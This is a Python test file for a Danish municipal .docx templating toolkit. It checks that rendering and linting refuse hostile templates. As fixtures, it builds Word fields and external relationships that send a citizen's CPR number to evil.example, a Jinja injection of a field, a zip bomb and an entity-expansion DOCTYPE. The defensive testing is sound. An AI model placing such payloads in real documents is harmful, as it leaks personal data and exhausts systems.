"""A template cannot fetch anything when its document is opened, nor is a hostile package a traceback.

Each template here is a real .docx with one part written by hand, as an attacker (or a
damaged file) would have it: fields that load content, external relationships, a DOCTYPE,
a zip bomb. Rendering refuses them naming the part; ``forloeb skabelon tjek`` reports them.
"""

from __future__ import annotations

import io
import zipfile
from datetime import date
from pathlib import Path

import pytest
from docx import Document

from toolkit.exceptions import TemplateProblem
from toolkit.render import engine
from toolkit.render.documents import render_docx, render_docx_classic
from toolkit.render.template_lint import lint

DAY = date(2015, 4, 15)
CONTEXT = {"borger": {"cpr": "010203-1234", "navn": "Test Testesen"}}
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'


def base(tmp_path: Path) -> bytes:
    document = Document()
    document.add_paragraph("Kære {{ borger.navn }}")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def rewrite(content: bytes, changes: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, changes.pop(info.filename, source.read(info)))
        for name, data in changes.items():
            target.writestr(name, data)
    return out.getvalue()


def with_body(tmp_path: Path, body: str, name: str = "indsatsplan.docx", extra: dict[str, bytes] | None = None) -> Path:
    xml = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document {W} {R}><w:body>{body}'
           '<w:sectPr/></w:body></w:document>').encode()
    path = tmp_path / name
    path.write_bytes(rewrite(base(tmp_path), {"word/document.xml": xml, **(extra or {})}))
    return path


def render(template: Path) -> bytes:
    engine.cache_clear()
    return render_docx(template, lambda _d: dict(CONTEXT), title="Titel", subject="Sag", day=DAY)


def field(instruction: str) -> str:
    """A complex field as Word writes it: begin, instruction split over two runs, separate, result, end."""
    half = len(instruction) // 2
    return ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            f'<w:r><w:instrText xml:space="preserve">{instruction[:half]}</w:instrText></w:r>'
            f'<w:r><w:instrText xml:space="preserve">{instruction[half:]}</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>billede</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


@pytest.mark.parametrize("keyword", ["INCLUDEPICTURE", "INCLUDETEXT", "LINK", "DDE", "DDEAUTO", "IMPORT"])
def test_a_field_that_loads_content_is_refused_and_linted(tmp_path, keyword):
    template = with_body(tmp_path, field(f' {keyword} "http://evil.example/x?cpr={{{{ borger.cpr }}}}" \\d '))
    with pytest.raises(TemplateProblem, match=f"word/document.xml: feltet {keyword} henter indhold udefra"):
        render(template)
    findings = lint(template, "indsatsplan")
    assert any(keyword in f.message and "evil.example" in (f.near or "") for f in findings), findings


def test_a_simple_field_and_a_field_without_jinja_are_refused_too(tmp_path):
    template = with_body(tmp_path, '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE http://evil.example/a.png">'
                                   '<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>')
    with pytest.raises(TemplateProblem, match="INCLUDEPICTURE"):
        render(template)


def test_a_hyperlink_built_from_case_data_is_refused_a_fixed_one_allowed(tmp_path):
    built = with_body(tmp_path, field(' HYPERLINK "https://evil.example/?n={{ borger.cpr }}" '), name="a.docx")
    with pytest.raises(TemplateProblem, match="bygget med Jinja"):
        render(built)
    fixed = with_body(tmp_path, field(' HYPERLINK "https://www.horsens.dk/" ') + '<w:p><w:r><w:t>{{ borger.navn }}'
                                                                                '</w:t></w:r></w:p>', name="b.docx")
    assert b"horsens.dk" in zipfile.ZipFile(io.BytesIO(render(fixed))).read("word/document.xml")


def rels(*relationships: str) -> bytes:
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.'
            'openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'styles" Target="styles.xml"/>' + "".join(relationships) + "</Relationships>").encode()


@pytest.mark.parametrize("kind", ["image", "attachedTemplate", "oleObject", "frame"])
def test_an_external_relationship_is_refused_naming_the_part(tmp_path, kind):
    relationship = (f'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                    f'relationships/{kind}" Target="http://evil.example/{kind}" TargetMode="External"/>')
    template = with_body(tmp_path, "<w:p><w:r><w:t>{{ borger.navn }}</w:t></w:r></w:p>",
                         extra={"word/_rels/document.xml.rels": rels(relationship)})
    with pytest.raises(TemplateProblem, match=f"word/_rels/document.xml.rels: en ekstern reference \\({kind}\\)"):
        render(template)
    assert any(kind in f.message for f in lint(template, "indsatsplan"))


def test_a_hyperlink_relationship_with_a_fixed_address_stays_allowed(tmp_path):
    relationship = ('<Relationship Id="rId98" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                    'relationships/hyperlink" Target="https://www.horsens.dk/" TargetMode="External"/>')
    template = with_body(tmp_path, '<w:p><w:hyperlink r:id="rId98"><w:r><w:t>Horsens Kommune</w:t></w:r>'
                                   '</w:hyperlink></w:p><w:p><w:r><w:t>{{ borger.navn }}</w:t></w:r></w:p>',
                         extra={"word/_rels/document.xml.rels": rels(relationship)})
    assert b"horsens.dk" in zipfile.ZipFile(io.BytesIO(render(template))).read("word/_rels/document.xml.rels")


def test_a_field_written_by_the_template_with_safe_stays_text(tmp_path):
    # "<" cannot stand in the template's XML text, so the template makes it with format()
    injected = ("{% set lt = '%c'|format(60) %}{{ (lt ~ '/w:t>' ~ lt ~ '/w:r>' ~ lt ~ 'w:r>' ~ lt ~ 'w:instrText>'"
                " ~ 'INCLUDEPICTURE \"http://evil.example/' ~ borger.cpr ~ '\"' ~ lt ~ '/w:instrText>' ~ lt ~ '/w:r>'"
                " ~ lt ~ 'w:r>' ~ lt ~ 'w:t>')|safe }}")
    template = with_body(tmp_path, f"<w:p><w:r><w:t>{injected}</w:t></w:r></w:p>")
    for document in (render(template),
                     render_docx_classic(template, None, dict(CONTEXT), title="T", subject="S", day=DAY)):
        xml = zipfile.ZipFile(io.BytesIO(document)).read("word/document.xml")
        assert b"&lt;w:instrText&gt;INCLUDEPICTURE" in xml and b"<w:instrText" not in xml


def test_a_rendered_part_with_a_loading_or_new_hyperlink_field_is_refused():
    """The last line of defence, for whatever way a field might still reach the rendered XML."""
    from lxml import etree

    from toolkit.render.package import check_rendered

    def part(instruction: str):
        return etree.fromstring(f"<w:body {W}>{field(instruction)}</w:body>".encode())

    allowed = frozenset({'HYPERLINK "https://www.horsens.dk/"'})
    check_rendered("t.docx", [("word/document.xml", part(' HYPERLINK "https://www.horsens.dk/" '))], allowed)
    with pytest.raises(TemplateProblem, match="byggede et link med sagsdata"):
        check_rendered("t.docx", [("word/document.xml", part('HYPERLINK "https://e.example/?cpr=0102"'))], allowed)
    with pytest.raises(TemplateProblem, match="word/footer1.xml: skabelonen skrev feltet DDEAUTO"):
        check_rendered("t.docx", [("word/footer1.xml", part('DDEAUTO c:\\x "y"'))], allowed)


def test_a_zip_bomb_is_refused_before_it_is_unpacked(tmp_path):
    template = with_body(tmp_path, "<w:p/>", extra={"word/media/bomb.bin": bytes(70_000_000)})
    assert template.stat().st_size < 1_000_000
    with pytest.raises(TemplateProblem, match="pakken: skabelonen fylder udpakket 70[.]"):
        render(template)
    with pytest.raises(TemplateProblem, match="udpakket"):
        lint(template, "indsatsplan")


def test_a_doctype_in_the_properties_and_a_broken_unused_part_are_messages(tmp_path):
    core = (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]>'
            b'<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties"'
            b'><cp:keywords>&b;</cp:keywords></cp:coreProperties>')
    template = with_body(tmp_path, "<w:p/>", extra={"docProps/core.xml": core}, name="a.docx")
    with pytest.raises(TemplateProblem, match="docProps/core.xml: delen indeholder en DOCTYPE"):
        render(template)
    with pytest.raises(TemplateProblem, match="DOCTYPE"):
        lint(template, "indsatsplan")
    broken = with_body(tmp_path, "<w:p/>", extra={"word/comments.xml": b"<w:comments><w:p>"}, name="b.docx")
    with pytest.raises(TemplateProblem, match="word/comments.xml: delen er ikke gyldig XML"):
        render(broken)
    with pytest.raises(TemplateProblem, match="word/comments.xml"):
        lint(broken, "indsatsplan")


def test_a_template_file_too_large_is_refused_before_it_is_read(tmp_path):
    template = tmp_path / "indsatsplan.docx"
    template.write_bytes(base(tmp_path))
    with open(template, "ab") as stream:
        stream.truncate(70_000_000)  # sparse: large on disk, read by nothing
    with pytest.raises(TemplateProblem, match="skabelonen fylder 70.000.000 byte"):
        render(template)


def test_the_commands_refuse_and_report_with_exit_2(tmp_path, case_file):
    import subprocess
    import sys

    from conftest import MINIMAL, ROOT

    template = with_body(tmp_path, field(' INCLUDEPICTURE "http://evil.example/?cpr={{ borger.cpr }}" ') +
                         "<w:p><w:r><w:t>{{ borger.navn }}</w:t></w:r></w:p>")
    case = case_file(MINIMAL)

    def forloeb(*args: object) -> subprocess.CompletedProcess:
        return subprocess.run([sys.executable, "-m", "toolkit", *map(str, args)], cwd=ROOT, capture_output=True,
                              text=True, timeout=120)

    rendered = forloeb("indsatsplan", case, "--template", template, "-o", tmp_path / "plan.docx")
    assert rendered.returncode == 2 and "Traceback" not in rendered.stderr
    assert f"{template}: word/document.xml: feltet INCLUDEPICTURE henter indhold udefra" in rendered.stderr
    assert not (tmp_path / "plan.docx").exists()
    linted = forloeb("skabelon", "tjek", template)
    assert linted.returncode == 2
    assert "word/document.xml: feltet INCLUDEPICTURE" in linted.stderr and "evil.example" in linted.stderr
